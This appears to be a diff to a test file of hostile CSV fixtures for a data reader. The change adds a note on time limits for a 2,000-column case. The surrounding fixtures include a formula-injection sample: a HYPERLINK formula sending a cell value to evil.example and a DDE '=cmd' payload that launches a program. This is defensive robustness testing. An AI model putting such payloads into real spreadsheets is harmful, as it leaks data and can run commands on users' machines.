@@ -59,7 +59,9 @@ FILES = [
                                                 + "\n").encode(), 3,
                # DuckDB's reader needs ~1 GB of address space for 2,000 columns; the red-team
                # sandbox caps it at 4 x 256 MB, so a typed memory refusal is acceptable too.
-               or_issue="out_of_memory"),
+               # Profiling 2,000 columns takes 1-1.5 s of the 3 s limit on an idle machine of
+               # this kind, so on a loaded one a typed time-out is an acceptable outcome as well.
+               or_issue="out_of_memory", slow=True),
     HostileCsv("five_megabyte_field", lambda: b"id,blob\n1," + b"x" * (5 << 20) + b"\n2,small\n", 2, slow=True),
     HostileCsv("formula_cells", lambda: (b'id,link,note\n1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",+1\n'
                                          b"2,@SUM(A1:A9),-2+3\n3,=cmd|' /C calc'!A0,ok\n"), 3),
